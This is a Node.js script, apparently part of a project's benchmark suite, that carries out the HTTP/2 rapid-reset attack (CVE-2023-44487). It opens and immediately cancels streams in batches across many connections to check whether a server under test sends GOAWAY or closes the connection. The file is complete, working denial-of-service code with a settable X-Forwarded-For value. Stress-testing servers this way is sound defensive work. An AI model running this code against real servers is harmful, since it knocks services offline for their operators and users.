// A rapid-reset attacker (CVE-2023-44487) for `npm run bench:attack`, in a process of its own:
// `connections` HTTP/2 connections in all, `concurrency` at a time, each opening streams and
// resetting each as soon as its HEADERS are sent, until the server closes the connection, sends
// GOAWAY, `max` streams were opened, or the deadline passes. Prints one JSON line of totals.
// Usage: node rapid-reset-client.mjs URL CA_FILE CONNECTIONS CONCURRENCY MAX DEADLINE_MS X_FORWARDED_FOR
import { readFileSync } from 'node:fs';
import { connect, constants } from 'node:http2';
import process from 'node:process';
import { connect as tlsConnect } from 'node:tls';
import { setTimeout as delay } from 'node:timers/promises';

const [url, caFile, connections, concurrency, max, deadlineMs, address] = process.argv.slice(2);
const target = new globalThis.URL(url);
const ca = readFileSync(caFile);
const deadline = Date.now() + Number(deadlineMs);
const totals = { connections: 0, opened: 0, goaway: 0, closedBeforeGoaway: 0, errors: 0 };

async function one() {
  totals.connections++;
  // The TLS socket is ours, so the server's close is seen on it even while the session is busy.
  let socket;
  const session = connect(url, {
    createConnection: () =>
      (socket = tlsConnect({ host: target.hostname, port: Number(target.port), ca, ALPNProtocols: ['h2'] })),
  });
  let goaway = false;
  let serverClosed = false;
  const closed = new Promise((resolve) =>
    socket.once('close', () => {
      serverClosed = true;
      resolve();
    }),
  );
  session.on('goaway', () => (goaway = true));
  session.on('error', () => totals.errors++);
  socket.on('error', () => {});
  await Promise.race([new Promise((r) => session.once('remoteSettings', r)), closed, delay(5000)]);
  let opened = 0;
  // Each batch waits for a PING's answer, sent once the server has read the batch.
  const serverHasRead = () =>
    new Promise((resolve) => {
      try {
        if (!session.ping(() => resolve())) resolve();
      } catch {
        resolve();
      }
    });
  while (!serverClosed && !goaway && opened < Number(max) && Date.now() < deadline) {
    try {
      for (let i = 0; i < 20; i++, opened++) {
        const stream = session.request({ ':path': target.pathname, 'x-forwarded-for': address });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
      }
    } catch {
      break; // the session is going away
    }
    await Promise.race([serverHasRead(), closed, delay(5000)]);
  }
  totals.opened += opened;
  await Promise.race([closed, delay(2000)]);
  if (goaway) totals.goaway++;
  else if (serverClosed) totals.closedBeforeGoaway++;
  session.destroy();
  socket.destroy();
}

let left = Number(connections);
await Promise.all(
  Array.from({ length: Number(concurrency) }, async () => {
    while (left > 0 && Date.now() < deadline) {
      left--;
      await one();
    }
  }),
);
process.stdout.write(`${JSON.stringify(totals)}\n`);
process.exit(0);
